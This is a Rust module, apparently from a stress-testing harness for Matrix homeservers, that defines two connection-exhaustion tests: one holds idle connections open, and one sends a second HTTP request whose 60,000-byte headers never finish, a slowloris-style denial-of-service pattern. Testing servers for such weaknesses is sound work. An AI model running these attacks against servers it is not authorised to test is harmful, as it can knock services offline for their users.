//! Connections that do nothing, or almost nothing (T120, T122).

use anyhow::Result;
use futures_util::future::BoxFuture;

use super::{Attack, Course, Figures, Target, hold_connections};

/// T120: connections on which nothing is said.
#[derive(Debug, Clone, Copy)]
pub struct Idle {
    /// How many.
    pub connections: usize,
}

impl Attack for Idle {
    fn name(&self) -> &'static str {
        "T120 idle connections"
    }

    fn run<'a>(&'a self, target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        Box::pin(hold_connections(target, course, self.connections, |_| Vec::new()))
    }
}

/// T122: after one request that is answered, the headers of the next don't come to their end.
#[derive(Debug, Clone, Copy)]
pub struct SlowHeaders {
    /// How many.
    pub connections: usize,
}

impl Attack for SlowHeaders {
    fn name(&self) -> &'static str {
        "T122 unfinished headers of second requests"
    }

    fn run<'a>(&'a self, target: &'a Target, course: Course) -> BoxFuture<'a, Result<Figures>> {
        let head = b"GET /_matrix/client/versions HTTP/1.1\r\nhost: x\r\n".to_vec();
        let first = [head.as_slice(), b"\r\n"].concat();
        let second = [head.as_slice(), b"x-more: ", &[b'x'; 60_000]].concat();
        Box::pin(hold_connections(target, course, self.connections, move |_| {
            vec![first.clone(), second.clone()]
        }))
    }
}
